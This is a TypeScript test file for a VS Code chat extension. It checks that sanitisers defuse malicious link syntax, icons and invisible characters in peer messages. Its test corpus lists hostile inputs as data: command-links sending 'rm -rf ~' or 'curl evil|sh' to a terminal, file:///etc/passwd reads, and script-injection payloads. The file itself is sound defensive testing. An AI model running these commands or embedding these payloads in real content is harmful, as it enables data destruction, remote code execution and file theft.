import assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { DEFAULT_MAX, inert, inertMarkdown, inertText, InertText, joinInert, SCHEME_COLON } from '../../extension/core/inertText';
import { terminalInert } from '../../extension/cli/peer';
import { unsafeCharsRegExp } from '../../extension/shared/invisibleChars';

// VS Code's link parser for notifications, input box messages and dialogs
// (src/vs/base/common/linkedText.ts, 1.139): what makes `[label](target)` a live link there.
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
// VS Code's icon syntax in status bar items, quick picks and buttons (iconLabels.ts).
const VSCODE_ICON = /(\\)?\$\(([a-z0-9-]+?(?:~[a-z0-9-]+)?)\)/gi;
// Any URI scheme a linkifier or opener could act on.
const ANY_SCHEME = /\b(?!p2pchat:)[a-z][a-z0-9+.-]+:(?=[^\s\d])/i;

/** The corpus: every link syntax we know of, in plain and obfuscated forms. */
const HOSTILE: string[] = [
  '[Join call](command:workbench.action.terminal.new?%5B%22rm%20-rf%20~%22%5D)',
  '[Join call](command:workbench.action.terminal.sendSequence?{"text":"curl evil|sh\\n"})',
  '[x](file:///etc/passwd)',
  '[x](FILE:///etc/passwd)',
  '[x](Command:workbench.action.files.newUntitledFile)',
  '[x](https://evil.example "a title")',
  "[x](https://evil.example 'a title')",
  '[x](vscode://ms-vscode.remote/open?x)',
  '[x](vscode-insiders://x/y)',
  '[x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x][ref]\n\n[ref]: command:workbench.action.terminal.new',
  '[ref]: file:///etc/passwd "t"',
  '[x]\n(command:workbench.action.terminal.new)',
  '[x]\u200b(command:workbench.action.terminal.new)',
  '[x]\u2060(command:workbench.action.terminal.new)',
  '[x]\u202e(command:workbench.action.terminal.new)',
  '[x]\u0000(command:workbench.action.terminal.new)',
  '[x]\r(command:workbench.action.terminal.new)',
  '[x]\u2028(command:workbench.action.terminal.new)',
  '[x](comm\u200band:workbench.action.terminal.new)',
  '[x](command\u00ad:workbench.action.terminal.new)',
  '[[nested](command:a)](command:b)',
  '[a](command:x)[b](command:y)[c](file:///z)',
  '[a]((command:x))',
  '\\[x\\](command:workbench.action.terminal.new)',
  '[x\\](command:workbench.action.terminal.new)',
  '<https://evil.example>',
  '<command:workbench.action.terminal.new>',
  'https://evil.example/path?q=1',
  'www.evil.example',
  'command:workbench.action.terminal.new',
  'file:///etc/passwd',
  'vscode://file/etc/passwd',
  'mailto:a@evil.example',
  '![img](https://evil.example/pixel.png)',
  '![img](command:workbench.action.terminal.new)',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<img src=x onerror=alert(1)>',
  '&#91;x&#93;&#40;command:workbench.action.terminal.new&#41;',
  '&lbrack;x&rbrack;(command:x)',
  '`[x](command:y)`',
  '```\n[x](command:y)\n```',
  '$(verified-filled) Alice',
  '$(sync~spin)',
  '\\$(verified-filled)',
  '$\u200b(verified-filled)',
  'Alice\u202e\u2066gnp.exe',
  '\u001b[2J\u001b]0;title\u0007',
  'a\u0085b\u000bc\u000cd',
  '\ud800 lone surrogate \udfff',
  'x'.repeat(100_000),
  '[x](' + 'command:'.repeat(5000) + ')',
  '\ue0041\ue0042 tag characters',
];

function assertInertPlain(out: string, input: string, multiLine = false): void {
  const where = `for ${JSON.stringify(input.slice(0, 80))} → ${JSON.stringify(out.slice(0, 120))}`;
  assert.equal([...out.matchAll(VSCODE_LINK)].length, 0, `a VS Code link survived ${where}`);
  assert.equal([...out.matchAll(VSCODE_ICON)].length, 0, `an icon survived ${where}`);
  assert.doesNotMatch(out, ANY_SCHEME, `a URI scheme survived ${where}`);
  assert.doesNotMatch(out, /\]\(/, `"](" survived ${where}`);
  assert.equal((multiLine ? out.replace(/\n/g, '') : out).match(unsafeCharsRegExp()), null, `an invisible or control character survived ${where}`);
  assert.doesNotMatch(out, /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/, `a lone surrogate survived ${where}`);
}

describe('inertText (peer text for VS Code sinks)', () => {
  it('defuses every link, autolink, scheme and icon of the corpus, single-line and multi-line', () => {
    for (const s of HOSTILE) {
      const one = inertText(s).value;
      assertInertPlain(one, s);
      assert.doesNotMatch(one, /\n/, 'single line');
      assert.ok(Array.from(one).length <= DEFAULT_MAX);
      assertInertPlain(inertText(s, { multiLine: true }).value, s, true);
    }
  });

  it('reads naturally: words stay, only the syntax is broken', () => {
    assert.equal(inertText('[Join call](command:workbench.action.terminal.new)').value, `[Join call] (command${SCHEME_COLON}workbench.action.terminal.new)`);
    assert.equal(inertText('see https://example.org/x').value, `see https${SCHEME_COLON}//example.org/x`);
    assert.equal(inertText('$(verified-filled) Bob').value, '$ (verified-filled) Bob');
    // Ordinary text is untouched: ports, times, "Note: x", our invites, emoji, other scripts.
    for (const plain of ['Note: lunch at 12:30', 'rendezvous example.org:7000', 'p2pchat:AbC-_x@10.0.0.1:7000', 'Olá 👋 שלום 你好', 'a * b _c_ `d` \\e']) {
      assert.equal(inertText(plain).value, plain);
    }
  });

  it('strips invisible and bidi characters and collapses lines', () => {
    assert.equal(inertText('Ali\u200bce\u202e').value, 'Alice');
    assert.equal(inertText('  a\n\n\tb \r\n c  ').value, 'a b c');
    assert.equal(inertText('a\n\n\n\nb\r\nc\u2028d', { multiLine: true }).value, 'a\n\nb\nc\nd');
    assert.equal(inertText('\u200b\u2066').value, '');
  });

  it('caps by code points without splitting a surrogate pair, and bounds the work on huge input', () => {
    const out = inertText('😀'.repeat(500), { max: 10 }).value;
    assert.equal(Array.from(out).length, 10);
    assert.ok(out.endsWith('…'));
    assert.doesNotMatch(out, /\ufffd/);
    const t0 = process.hrtime.bigint();
    inertText('[x](command:y)'.repeat(1_000_000));
    assert.ok(Number(process.hrtime.bigint() - t0) / 1e6 < 500, 'a 14 MB string is cut before any regex runs');
  });

  it('is idempotent and leaves InertText as it is', () => {
    for (const s of HOSTILE) {
      const once = inertText(s);
      assert.equal(inertText(once.value).value, once.value);
      assert.equal(inertText(once), once);
    }
  });

  it('accepts any value: numbers, undefined, errors', () => {
    assert.equal(inertText(42).value, '42');
    assert.equal(inertText(undefined).value, '');
    assert.equal(inertText(null).value, '');
    assert.equal(inertText(new Error('[x](command:y)')).value, `Error: [x] (command${SCHEME_COLON}y)`);
  });
});

describe('inert template tag', () => {
  it('keeps our literal text (icons, line breaks) and makes every value inert', () => {
    const name = '[Join call](command:workbench.action.terminal.new)';
    const t = inert`$(bell) ${name} said:\n${'$(verified-filled)'}`;
    assert.ok(t instanceof InertText);
    assert.equal(t.value, `$(bell) [Join call] (command${SCHEME_COLON}workbench.action.terminal.new) said:\n$ (verified-filled)`);
  });

  it('cannot assemble a link or an icon across a boundary', () => {
    assert.doesNotMatch(inert`${'[x]'}(command:y)`.value, /\]\(/);
    assert.doesNotMatch(inert`${'[x]'}${'(command:y)'}`.value, /\]\(/);
    assert.doesNotMatch(inert`${'$'}(verified)`.value, /\$\(/);
    assert.doesNotMatch(joinInert([inertText('[x]'), inertText('(y)')], '').value, /\]\(/);
  });

  it('nests: an InertText value is not processed twice (our icons survive)', () => {
    const icon = inert`$(cloud) 1`;
    assert.equal(inert`${icon} — ${'a$(b)'}`.value, '$(cloud) 1 — a$ (b)');
  });
});

describe('inertMarkdown (for a MarkdownString)', () => {
  // markdown-it with everything a renderer might enable: raw HTML and bare-URL linkification.
  const md = new MarkdownIt({ html: true, linkify: true });

  it('renders every corpus entry as text: no link, image, HTML tag or code', () => {
    for (const s of HOSTILE) {
      const source = inertMarkdown(s, { multiLine: true });
      const html = md.render(source);
      const where = `for ${JSON.stringify(s.slice(0, 60))}: ${html.slice(0, 200)}`;
      assert.doesNotMatch(html, /<(?!\/?(p|br)\s*\/?>)[a-z/]/i, `markup other than paragraphs and line breaks ${where}`);
      assert.doesNotMatch(html, /<a\b|<img\b|<code\b/i, where);
    }
  });

  it('shows the text as written (what inertText makes of it)', () => {
    const html = md.render(inertMarkdown('a *b* <i>c</i> & d_e_ # f'));
    assert.equal(html.trim(), '<p>a *b* &lt;i&gt;c&lt;/i&gt; &amp; d_e_ # f</p>');
  });
});

describe('the terminal peer (p2p-chat) shows the same characters escaped', () => {
  it('escapes controls, bidi and zero-width characters; keeps tabs and line breaks', () => {
    assert.equal(terminalInert('a\u001b[2Jb'), 'a\\u001b[2Jb');
    assert.equal(terminalInert('Ali\u200bce\u202e'), 'Ali\\u200bce\\u202e');
    assert.equal(terminalInert('x\u{e0041}'), 'x\\u{e0041}');
    assert.equal(terminalInert('line 1\n\tline 2'), 'line 1\n\tline 2');
  });
});
